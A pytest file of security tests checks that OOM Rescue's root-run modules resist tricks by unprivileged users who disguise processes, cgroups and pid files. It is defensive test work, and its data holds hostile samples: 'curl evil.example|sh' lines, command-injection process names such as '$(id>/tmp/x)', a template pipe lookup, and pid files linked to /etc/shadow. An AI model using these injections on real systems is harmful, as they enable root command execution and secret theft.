# Copyright (c) OOM Rescue maintainers
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""A process calls itself what it likes: names, arguments, executables, cgroups, parents, pid files."""

import json
import os
import shutil

import pytest
from victim import NOBODY

ID = '5f' * 32
OTHER_ID = 'ab' * 32


def disguise(victim, **spec):
    """A disguised process of the attacker's: its pid."""
    return victim.attacker('disguised', json.dumps(spec)).inside


def server(victim, user=True, **spec):
    """An honest MySQL server: its package's executable, run as its package's user. Returns its pid."""
    if user:
        with open(victim.path('/etc/passwd'), 'a') as stream:
            stream.write('mysql:x:983:983::/nonexistent:/bin/false\n')
        shutil.copy(os.path.realpath('/usr/bin/python3'), victim.path('/usr/sbin/mysqld'))
    spec.update(exe='/usr/sbin/mysqld', argv=['/usr/sbin/mysqld'])
    return victim.attacker('disguised', json.dumps(spec), uid=983).inside


def supervised(victim):
    """An honest server below root's supervisord."""
    with open(victim.path('/etc/passwd'), 'a') as stream:
        stream.write('mysql:x:983:983::/nonexistent:/bin/false\n')
    for name in ('mysqld', 'supervisord'):
        shutil.copy(os.path.realpath('/usr/bin/python3'), victim.path('/usr/sbin/' + name))
    return victim.attacker('disguised', json.dumps({
        'exe': '/usr/sbin/supervisord', 'argv': ['/usr/sbin/supervisord'], 'comm': 'supervisord', 'child': {
            'exe': '/usr/sbin/mysqld', 'argv': ['/usr/sbin/mysqld'], 'uid': 983,
            'env': {'SUPERVISOR_PROCESS_NAME': 'mysqld', 'SUPERVISOR_ENABLED': '1'}}}), uid=0).inside


def score(victim, pid):
    return victim.proc(pid, 'oom_score_adj')


def protect(victim, **options):
    options = {'process': 'mysqld', 'value': 300, **options}
    if {'unit', 'container', 'pid_file'} & set(options):
        del options['process']
    run = victim.module('oom_score_adj', **options)
    assert not run.hung, 'root\'s run hangs'
    return run


def test_an_honest_server_is_protected(victim):
    """No attack: the server of a package gets its score, so that the checks below can fail."""
    pid = server(victim)
    protect(victim)
    assert score(victim, pid) == '300'


@pytest.mark.parametrize('spec', [
    {'exe': '/tmp/a/mysqld', 'argv': ['mysqld']},
    {'exe': '/tmp/a/mysqld', 'argv': ['/usr/sbin/mysqld'], 'comm': 'mysqld', 'orphan': True},
    {'comm': 'mysqld', 'argv': ['/usr/bin/python3', '/usr/sbin/mysqld']},
    {'comm': 'mysqld'},
    {'argv': ['/usr/bin/python3', '/usr/sbin/mysqld']},
    {'exe': '/tmp/a/mysqld (deleted)', 'comm': 'mysqld'},
    {'exe': '/tmp/usr/sbin/mysqld', 'argv': ['/usr/sbin/mysqld', '--user=mysql'], 'comm': 'mysqld',
     'env': {'SUPERVISOR_PROCESS_NAME': 'mysqld'}},
    {'exe': '/tmp/a/mariadbd', 'comm': 'mariadbd'},
    {'comm': 'mysqld', 'argv': ['/bin/sh', '/usr/bin/mysqld_safe'],
     'child': {'comm': 'mysqld', 'argv': ['/bin/sh', '/usr/bin/mysqld']}},
], ids=['executable', 'orphan', 'script', 'comm', 'cmdline', 'deleted', 'supervised', 'mariadb', 'respawner'])
def test_a_process_that_calls_itself_mysqld(victim, spec):
    """A user's process calls itself mysqld, to be spared by the kernel."""
    pid = disguise(victim, **spec)
    protect(victim)
    assert score(victim, pid) == '0', 'the protecting score'


def test_hard_link_to_a_root_owned_interpreter(victim):
    """A user's script named mysqld is run by the root-owned python3 through a symbolic link called mysqld."""
    pid = disguise(victim, links={'/tmp/a/mysqld': '/usr/bin/python3'}, exe='/tmp/a/mysqld', comm='mysqld')
    protect(victim)
    assert score(victim, pid) == '0', 'the protecting score'


def test_a_loader_runs_the_users_program(victim):
    """The root-owned dynamic loader runs a user's program with --argv0 mysqld."""
    loader = '/lib64/ld-linux-x86-64.so.2'
    victim.write('/usr/sbin/mysqld', open(os.path.realpath('/bin/sleep'), 'rb').read(), 0o755)
    pid = disguise(victim, comm='mysqld', argv=[loader, '--argv0', 'mysqld', '/tmp/a/mysqld'])
    protect(victim)
    assert score(victim, pid) == '0', 'the protecting score'


def test_the_servers_own_executable_run_by_a_user(victim):
    """A user runs the package's own root-owned mysqld, as nobody, with a configuration of his own."""
    server(victim)
    pid = disguise(victim, exe='/usr/sbin/mysqld', argv=['/usr/sbin/mysqld', '--defaults-file=/tmp/my.cnf'])
    protect(victim)
    assert score(victim, pid) == '0', 'the protecting score'


def test_root_in_a_user_namespace(victim):
    """A user is uid 0 in a user namespace of his own, and owns the executable there."""
    run = victim.attacker('user_namespace', '/tmp/u/mysqld')
    protect(victim)
    assert score(victim, run.inside) == '0', 'the protecting score'


def test_mysqld_in_the_attackers_mount_namespace(victim):
    """In his own user and mount namespace a user mounts a tmpfs over /usr/sbin and runs /usr/sbin/mysqld from there."""
    victim.write('/usr/sbin/mysqld', '', 0o755)
    run = victim.attacker('user_namespace', '/usr/sbin/mysqld', 'mount')
    protect(victim)
    assert score(victim, run.inside) == '0', 'the protecting score'


def test_an_anonymous_executable(victim):
    """A user's program runs from memory (memfd) under the name mysqld: its exe is `/memfd:mysqld (deleted)`."""
    run = victim.attacker('anonymous', 'mysqld')
    protect(victim)
    assert score(victim, run.inside) == '0', 'the protecting score'


@pytest.mark.parametrize('how', ['namespace', 'mount', 'program', 'unit', 'cgroup'])
def test_a_user_forbids_swap(victim, how):
    """A user has root think that a kubelet, or a server that locks its memory, runs here: then no swap is made."""
    own = victim.user_cgroup('/user.slice/user-%d.slice/user@%d.service/app.slice' % (NOBODY, NOBODY))
    victim.directory('/home/his', owner=NOBODY)
    if how == 'namespace':
        victim.attacker('user_namespace', '/home/his/kubelet')
    elif how == 'mount':
        victim.write('/usr/bin/kubelet', '', 0o755)
        victim.attacker('user_namespace', '/usr/bin/kubelet', 'mount')
    elif how == 'program':
        shutil.copy(os.path.realpath('/usr/bin/python3'), victim.path('/usr/bin/kubelet'))
        victim.path('/etc/systemd/system/kubelet.service').symlink_to('/dev/null')
        disguise(victim, exe='/usr/bin/kubelet', argv=['kubelet', '--fail-swap-on=true'])
    elif how == 'unit':
        victim.write('/etc/elasticsearch/elasticsearch.yml', 'bootstrap.memory_lock: true\n')
        victim.write('/usr/lib/systemd/system/elasticsearch.service', '[Install]\nWantedBy=multi-user.target\n')
        victim.attacker('cgroup', json.dumps({'below': own, 'name': 'elasticsearch.service'}), groups=own)
    else:
        victim.attacker('cgroup', json.dumps({'below': own, 'name': 'docker/' + ID}), groups=own)
        disguise(victim, exe='/home/his/kubelet', comm='kubelet')
    forbidden = victim.module('memory_facts')['ansible_facts']['memory']['forbidden']['swap']
    got = [row for row in forbidden if row['id'] in ('kubelet', 'memory-lock')]
    assert not got, 'no swap for this host: %s' % got[0]['where']


@pytest.mark.parametrize('killer', ['nohang', 'supervisord', 'conmon'])
def test_a_helper_names_a_fifo(victim, killer):
    """A process that calls itself nohang, supervisord or conmon names a FIFO as its configuration."""
    server(victim)
    disguise(victim, comm=killer, exe='/tmp/a/' + killer, fifos=['/tmp/fifo', '/tmp/b/config.json'],
             argv=[killer, '-b', '/tmp/b'] + (['-c', ID] if killer == 'conmon' else ['-c', '/tmp/fifo']),
             child={'exe': '/tmp/a/mysqld', 'comm': 'mysqld', 'argv': ['mysqld']})
    run = victim.module('memory_facts', timeout=6)
    assert not run.hung, 'memory_facts hangs for ever'
    run = victim.module('oom_score_adj', process='mysqld', value=300, timeout=6)
    assert not run.hung, 'oom_score_adj hangs for ever'


def test_a_helper_names_an_endless_file(victim):
    """A process that calls itself nohang names /dev/zero as its configuration."""
    disguise(victim, exe='/tmp/a/nohang', argv=['nohang', '--config', '/dev/zero'])
    run = victim.module('memory_facts')
    assert not run.hung and run.rss < 100 << 20 and not run.get('failed'), '%d MB of root\'s memory' % (run.rss >> 20)


def test_a_helper_names_a_file_that_root_writes(victim):
    """A process that calls itself nohang names /etc/environment: root appends to it, a line of the user's choice."""
    before = victim.write('/etc/environment', 'PATH=/usr/bin\n').read_text()
    disguise(victim, exe='/tmp/a/nohang', argv=['nohang', '--config', '/etc/environment'])
    disguise(victim, exe='/tmp/a/mysqld', comm='a\nLD_PRELOAD=x')
    server(victim)
    protect(victim, killers='spare')
    assert victim.path('/etc/environment').read_text() == before, 'a line in /etc/environment'


def test_a_helper_has_root_make_a_file(victim):
    """A process that calls itself earlyoom has root make /etc/default/earlyoom, with the name of a user's process in
    it.
    """
    disguise(victim, exe='/tmp/a/earlyoom', comm='earlyoom')
    disguise(victim, exe='/tmp/a/mysqld', comm='`id>/x`', argv=['mysqld'])
    protect(victim, killers='spare')
    assert not victim.path('/etc/default/earlyoom').exists(), victim.path('/etc/default/earlyoom').read_text()


def test_a_name_in_a_real_killers_file(victim):
    """With a real earlyoom installed, a user's mysqld is called `$(id)`: the name would stand in a file that sh
    reads.
    """
    victim.write('/usr/bin/earlyoom', open(os.path.realpath('/bin/sleep'), 'rb').read(), 0o755)
    victim.write('/etc/default/earlyoom', 'EARLYOOM_ARGS="-r 3600"\n')
    disguise(victim, exe='/tmp/a/mysqld', comm='$(id>/tmp/x)')
    server(victim)
    protect(victim, killers='spare')
    text = victim.path('/etc/default/earlyoom').read_text()
    assert 'tmp/x' not in text, text


def test_a_supervisord_has_root_told_what_to_run(victim):
    """A process that calls itself supervisord has root told to run a command of the user's."""
    text = '[program:mysqld]\ncommand=/bin/sh -c "curl evil.example|sh"\n'
    disguise(victim, exe='/tmp/a/supervisord', comm='supervisord', argv=['supervisord', '-c', '/tmp/s.conf'],
             files={'/tmp/s.conf': text},
             child={'exe': '/tmp/a/mysqld', 'comm': 'mysqld', 'argv': ['mysqld'],
                    'env': {'SUPERVISOR_PROCESS_NAME': 'mysqld'}})
    run = protect(victim)
    assert 'curl' not in run.output, 'root is told to run curl evil.example|sh'


def test_a_supervised_programs_name(victim):
    """A child of a process that calls itself supervisord has a name with a command in its environment."""
    disguise(victim, exe='/tmp/a/supervisord', comm='supervisord',
             child={'exe': '/tmp/a/mysqld', 'comm': 'mysqld', 'argv': ['mysqld'],
                    'env': {'SUPERVISOR_PROCESS_NAME': 'x; curl evil.example | sh #'}})
    run = protect(victim)
    facts = victim.module('memory_facts')
    assert 'curl' not in run.output + facts.output, 'root is told to run supervisorctl update x; curl …'


def test_a_conmon_names_its_container(victim):
    """A process that calls itself conmon says that its child is the container mysql."""
    pid = disguise(victim, exe='/tmp/a/conmon', comm='conmon', argv=['conmon', '-c', ID, '-n', 'mysql'],
                   child={'exe': '/tmp/a/work', 'comm': 'work'})
    protect(victim, container='mysql')
    protect(victim, container=ID)
    assert score(victim, pid) == '0', 'the score of the container mysql'


@pytest.mark.parametrize('name', [
    'docker/' + ID, 'docker-%s.scope' % ID, 'system.slice/docker-%s.scope' % ID, 'libpod-%s.scope' % ID,
    'machine.slice/libpod-%s.scope/container' % ID, 'user.slice/docker-%s.scope' % ID, 'x 0::/docker/' + ID,
    'init.scope/docker-%s.scope' % ID, 'x\u20280::/docker/' + ID, 'x\x0b1:name=systemd:/docker/' + ID,
    'x\x1c0::/system.slice/docker-%s.scope' % ID,
], ids=['docker', 'scope', 'system.slice', 'libpod', 'machine.slice', 'user.slice', 'blank', 'init.scope', 'line end',
        'tab', 'separator'])
def test_a_users_cgroup_named_like_a_container(victim, name):
    """A user names a cgroup below his own (user@65534.service) as the engine names that of a container."""
    victim.write('/var/lib/docker/containers/%s/config.v2.json' % ID, json.dumps({'ID': ID, 'Name': '/mysql'}))
    own = victim.user_cgroup('/user.slice/user-%d.slice/user@%d.service/app.slice' % (NOBODY, NOBODY))
    pid = victim.attacker('cgroup', json.dumps({'below': own, 'name': name}), groups=own).inside
    run = protect(victim, container='mysql')
    run = protect(victim, container=ID)
    assert score(victim, pid) == '0', 'the score of the container mysql: ' + run.output[:100]


def test_a_users_cgroup_named_like_a_unit(victim):
    """A user names a cgroup below his own mysqld.service."""
    own = victim.user_cgroup('/user.slice/user-%d.slice/user@%d.service/app.slice' % (NOBODY, NOBODY))
    pid = victim.attacker('cgroup', json.dumps({'below': own, 'name': 'mysqld.service'}), groups=own).inside
    protect(victim, unit='mysqld.service')
    assert score(victim, pid) == '0', 'the score of the unit mysqld.service'


def test_a_users_namespace_hides_where_he_is(victim):
    """In a cgroup namespace of his own a user's cgroup is the root, and /docker/ID right below it."""
    own = victim.user_cgroup('/user.slice/user-%d.slice/user@%d.service' % (NOBODY, NOBODY))
    spec = {'below': own, 'name': 'docker/' + ID, 'namespace': True}
    pid = victim.attacker('cgroup', json.dumps(spec), groups=own).inside
    protect(victim, container=ID)
    assert score(victim, pid) == '0', 'the score of the container'


def test_a_name_leaves_the_directory_of_init_scripts(victim):
    """A server's process calls itself ../../tmp/sx: root reads that as its init script, and edits the file it names."""
    victim.write('/etc/default/victim', 'A=1\n')
    disguise(victim, exe='/tmp/a/mysqld', comm='../../tmp/sx', orphan=True,
             files={'/tmp/sx': '#!/bin/sh\n. /etc/default/victim\n'})
    protect(victim)
    assert victim.path('/etc/default/victim').read_text() == 'A=1\n', 'an edit of /etc/default/victim'


def test_a_user_without_a_server_has_no_file_edited(victim):
    """A user's mysqld has the score written into the defaults of the real server's init script."""
    victim.write('/etc/init.d/mysql', '#!/bin/sh\n. /etc/default/mysql\n', 0o755)
    victim.write('/etc/default/mysql', 'A=1\n')
    disguise(victim, exe='/tmp/a/mysqld', comm='mysqld', orphan=True)
    protect(victim)
    assert victim.path('/etc/default/mysql').read_text() == 'A=1\n', 'an edit of /etc/default/mysql'


@pytest.mark.parametrize('how', ['link', 'hardlink', 'text', 'fifo', 'device', 'newline'])
def test_a_pid_file(victim, how):
    """A pid file in a directory of the user's is a link to /etc/shadow, a FIFO, a device, or holds another's pid."""
    victim.write('/etc/shadow', 'root:$6$secret$of-root:19000::::::\n', 0o600)
    victim.directory('/run/mysqld', owner=NOBODY)
    pid = disguise(victim, exe='/tmp/a/mysqld', comm='mysqld')
    made = victim.attacker('pid_file', '/run/mysqld/mysqld.pid', how, pid, background=False)
    assert 'made' in made, made
    run = victim.module('oom_score_adj', pid_file='/run/mysqld/mysqld.pid', value=300, timeout=6)
    assert not run.hung, 'root\'s run hangs'
    assert '$6$' not in run.output, '40 bytes of /etc/shadow'
    assert score(victim, pid) == '0', 'the score of the server'


def test_a_pid_file_names_roots_process(victim):
    """The server's own pid file, which its user writes, names a process of root's."""
    victim.directory('/run/mysqld', owner=NOBODY)
    rooted = victim.attacker('disguised', json.dumps({'comm': 'sshd'}), uid=0).inside
    victim.write('/run/mysqld/mysqld.pid', '%d\n' % rooted, owner=NOBODY)
    protect(victim, pid_file='/run/mysqld/mysqld.pid')
    assert score(victim, rooted) == '0', 'a score for a process of root\'s'


@pytest.mark.parametrize('comm', ['x) R 1 1 1', ')', 'a\nUid:\t0\t0\t0\t0', '{{ lookup("pipe", "id") }}', 'a (deleted)',
                                  '\x1b]0;owned\x07', '\u202e\u2066'],
                         ids=['stat', 'parenthesis', 'status', 'template', 'deleted', 'escape', 'bidi'])
def test_a_name_that_breaks_a_parser(victim, comm):
    """A process names itself so that /proc/PID/stat, status, a template or a terminal is misread."""
    pid = disguise(victim, exe='/tmp/a/mysqld', comm=comm, argv=['mysqld'])
    run = protect(victim)
    facts = victim.module('memory_facts', candidates=0)
    assert score(victim, pid) == '0', 'the protecting score'
    assert not facts.get('failed'), 'memory_facts fails: ' + facts.output[-100:]
    row = next((row for row in facts['ansible_facts']['memory']['oom']['candidates'] if row['pid'] == pid), None)
    assert row is None or row['uid'] == NOBODY, 'another uid: %s' % row
    assert 'uid=0' not in run.output + facts.output, 'a command run by a template'
